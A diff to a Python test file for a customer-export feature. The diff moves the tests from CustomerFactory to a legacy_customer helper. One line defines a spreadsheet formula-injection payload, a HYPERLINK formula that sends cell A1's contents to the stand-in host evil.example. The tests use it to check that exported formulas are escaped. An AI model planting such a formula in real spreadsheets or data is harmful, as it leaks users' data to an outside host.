@@ -12,7 +12,7 @@ from huitou.accounts.tests.factories import UserFactory
 from huitou.core.spreadsheet import safe_cell, unescape_cell
 from huitou.customers.importing import do_customers_import
 from huitou.customers.models import Customer
-from huitou.customers.tests.factories import CustomerFactory
+from huitou.customers.tests.factories import CustomerFactory, legacy_customer
 
 PAYLOAD = '=HYPERLINK("http://evil.example/?x="&A1,"点击查看")'
 
@@ -75,7 +75,7 @@ def test_a_control_character_in_a_customer_field_does_not_break_the_xlsx_export(
     from openpyxl import load_workbook
 
     client.force_login(UserFactory(role="supervisor"))
-    CustomerFactory(name="王\x01芳", note="换页\x0c符")
+    legacy_customer(name="王\x01芳", note="换页\x0c符")  # the service refuses them
     response = client.get("/customers/export.xlsx")
     assert response.status_code == 200
     sheet = load_workbook(io.BytesIO(response.content)).active
@@ -89,7 +89,7 @@ def test_a_control_character_in_a_customer_field_does_not_break_the_xlsx_export(
 def test_the_export_command_escapes_formulas(tmp_path, suffix):
     from openpyxl import load_workbook
 
-    CustomerFactory(name=PAYLOAD, note="坏\x02字符")
+    legacy_customer(name=PAYLOAD, note="坏\x02字符")
     path = tmp_path / f"customers.{suffix}"
     call_command("export", "customers", str(path), stderr=StringIO())
     if suffix == "csv":
